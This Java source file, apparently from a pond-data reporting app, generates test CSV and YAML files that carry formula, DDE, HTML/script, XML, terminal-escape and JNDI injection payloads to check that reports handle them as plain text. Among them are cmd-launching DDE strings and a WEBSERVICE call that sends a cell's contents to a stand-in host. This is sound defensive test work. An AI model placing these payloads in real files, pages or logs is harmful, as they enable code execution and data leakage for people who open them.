package pondtally.reports.app;

import java.io.IOException;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import pondtally.schema.FieldSchema;
import pondtally.schema.FieldType;
import pondtally.schema.TableSchema;

/**
 * A generated program whose every text cell would run something if a spreadsheet, a browser or a
 * word processor took it for more than text.
 */
final class FormulaProgram {

  /** Stands in every payload, before its number of four digits. */
  static final String MARK = "fz";

  private static final int PAYLOADS = 500;
  private static final int BAD_ROWS = 125;

  private static final String[] STARTS = {
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0=",
    "\u200b=", "\ufeff=", "\u202e=", "'=", "\"=", " =", ";=", ",=", "|=", "=+-@", "\u2212", "%0A-"
  };

  private static final String[] BODIES = {
    "1+1+N(\"%s\")",
    "cmd|'/C calc %s'!A0",
    "HYPERLINK(\"http://example.invalid/%s\",\"%s\")",
    "DDE(\"cmd\";\"/C calc\";\"%s\")",
    "IMPORTXML(\"http://example.invalid/%s\";\"//a\")",
    "WEBSERVICE(\"http://example.invalid/%s?\"&A1)",
    "SUM(1;2)\";=1+1;\"%s",
    "1,\"=1+1\",%s\n=2+2",
    "<script>document.documentElement.id='live-%s'</script>",
    "\"><img src=x onerror=\"document.documentElement.id='live-%s'\">",
    "' onmouseover='document.documentElement.id=\"live-%s\"' x='",
    "</script><svg onload=document.documentElement.id='live-%s'>",
    "<a href=\"javascript:document.documentElement.id='live-%s'\">%s</a>",
    "]]><f>1+1</f><![CDATA[%s",
    "</t></is><f>1+1</f><is><t>%s",
    "{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc %s\" }",
    "<w:instrText>DDEAUTO %s</w:instrText>",
    "&quot;&#61;1+1%s&lt;script&gt;",
    "_x003D_1+1_x000D_%s",
    "\u0007\u001b[31m%s\u001b]0;x",
    "${jndi:ldap://example.invalid/%s}"
  };

  private final List<String> payloads = new ArrayList<>();

  private FormulaProgram() {
    for (int i = 0; i < PAYLOADS; i++) {
      String mark = String.format(Locale.ROOT, "%s%04d", MARK, i);
      // The numbers of starts and bodies have no factor in common: 504 different pairs.
      payloads.add(STARTS[i % STARTS.length] + BODIES[i / STARTS.length].replace("%s", mark));
    }
  }

  /** Writes the program; returns the payloads in it. */
  static List<String> write(Path folder) throws IOException {
    FormulaProgram program = new FormulaProgram();
    program.settings(folder);
    // Names of files can begin in the same way.
    Path partner = Files.createDirectories(folder.resolve("=1+1|cmd " + MARK + "0001"));
    for (TableSchema table : TableSchema.all()) {
      if (!table.name().equals("prices")) {
        program.table(table, partner.resolve("@" + table.name() + ".csv"));
      }
    }
    return program.payloads;
  }

  private void settings(Path folder) throws IOException {
    Files.createDirectories(folder);
    Files.writeString(
        folder.resolve("program.yaml"),
        "region: '=HYPERLINK(\"http://example.invalid/fz0002\")<script>document.documentElement.id=1</script>'\nas_of: 2025-12-31\n");
  }

  private void table(TableSchema table, Path file) throws IOException {
    try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8);
        CSVPrinter csv = new CSVPrinter(out, CSVFormat.RFC4180)) {
      csv.printRecord(table.fields().stream().map(FieldSchema::name).toList());
      for (int row = 0; row < PAYLOADS; row++) {
        csv.printRecord(good(table, row));
      }
      for (int row = 0; row < BAD_ROWS; row++) {
        csv.printRecord(bad(table, row));
      }
    }
  }

  /** A row that counts: text is a payload, everything else is in order. */
  private List<String> good(TableSchema table, int row) {
    List<String> cells = new ArrayList<>();
    for (FieldSchema field : table.fields()) {
      cells.add(field.name().equals("partner") ? "" : good(field, row));
    }
    return cells;
  }

  private String good(FieldSchema field, int row) {
    if (field.type() == FieldType.STRING && field.codes().isEmpty()) {
      // An id is the same wherever it stands; groups need members.
      return switch (field.name()) {
        case "device_id", "site_id", "pond_id", "property_id", "landowner", "notes", "owner" ->
            payloads.get(row);
        default -> payloads.get((row + field.position()) % 25 * 20 + field.position() % 20);
      };
    }
    if (!field.codes().isEmpty()) {
      return field.codes().get(row % field.codes().size());
    }
    return switch (field.type()) {
      case DATE -> field.required() ? date(field) : "";
      case YEAR -> "2024";
      case NUMBER -> field.name().matches("latitude|longitude") ? "44.5" : "5";
      case INTEGER -> "6";
      default -> "";
    };
  }

  private static String date(FieldSchema field) {
    return switch (field.name()) {
      case "installed_on", "period_start" -> "2023-05-01";
      case "period_end" -> "2025-12-31";
      default -> "2024-0" + (1 + field.name().length() % 9) + "-01";
    };
  }

  /** A row with a payload in every cell, of whatever type. */
  private List<String> bad(TableSchema table, int row) {
    List<String> cells = new ArrayList<>();
    for (FieldSchema field : table.fields()) {
      cells.add(
          field.name().equals("partner")
              ? ""
              : payloads.get((4 * row + field.position()) % PAYLOADS));
    }
    return cells;
  }
}
